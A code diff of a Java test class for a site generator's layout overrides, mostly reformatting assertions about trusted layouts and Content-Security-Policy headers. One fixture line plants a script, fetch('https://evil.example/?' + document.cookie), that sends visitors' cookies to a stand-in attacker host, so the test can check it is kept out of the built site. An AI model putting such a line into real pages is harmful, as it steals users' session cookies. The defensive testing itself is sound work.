@@ -48,7 +48,9 @@ class LayoutOverridesTest {
         assertEquals("""
                 templates/layouts/: warning: the catalog's layout overrides are not used: layouts write the site's HTML, so they are trusted code [P116]
                   hint: build with --trust-layouts once they are reviewed (not in pull-request builds)""", r.err().strip());
-        assertTrue(Files.readString(h.out().resolve("404.html")).contains("Content-Security-Policy"), "the bundled 404 page");
+        assertTrue(
+                Files.readString(h.out().resolve("404.html")).contains("Content-Security-Policy"),
+                "the bundled 404 page");
         try (Stream<Path> pages = Files.walk(h.out()).filter(p -> p.toString().endsWith(".html"))) {
             for (Path page : pages.toList()) {
                 OutputEscapingTest.assertNoActiveContent(Jsoup.parse(page.toFile(), "UTF-8"), page);
@@ -61,18 +63,24 @@ class LayoutOverridesTest {
         h.with("templates/layouts/assets/site.js", "fetch('https://evil.example/?' + document.cookie);\n");
         Hostile.Result r = h.build("--trust-layouts");
         assertEquals(0, r.exit(), r::toString);
-        assertTrue(!Files.readString(h.out().resolve("assets/site.js")).contains("evil.example"),
+        assertTrue(
+                !Files.readString(h.out().resolve("assets/site.js")).contains("evil.example"),
                 "a pull request's script runs on every page (CSP script-src 'self' allows it)");
     }
 
     @Test
     void trustedOverridesReplaceTheBundledLayoutAndStylesheet() throws IOException {
-        h.with("templates/layouts/404.ftlh", "<#import \"base.ftlh\" as layout><@layout.page><h1>Lost? Ask #platform</h1></@layout.page>");
+        h.with(
+                "templates/layouts/404.ftlh",
+                "<#import \"base.ftlh\" as layout><@layout.page><h1>Lost? Ask #platform</h1></@layout.page>");
         h.with("templates/layouts/assets/style.css", "body { color: rebeccapurple; }\n");
         Hostile.Result r = h.build("--trust-layouts");
         assertEquals(0, r.exit(), r::toString);
         assertTrue(Files.readString(h.out().resolve("404.html")).contains("<h1>Lost? Ask #platform</h1>"));
-        assertEquals("body { color: rebeccapurple; }\n", Files.readString(h.out().resolve("assets/style.css")));
-        assertTrue(Files.readString(h.out().resolve("404.html")).contains("Content-Security-Policy"), "the frame keeps the CSP");
+        assertEquals(
+                "body { color: rebeccapurple; }\n", Files.readString(h.out().resolve("assets/style.css")));
+        assertTrue(
+                Files.readString(h.out().resolve("404.html")).contains("Content-Security-Policy"),
+                "the frame keeps the CSP");
     }
 }
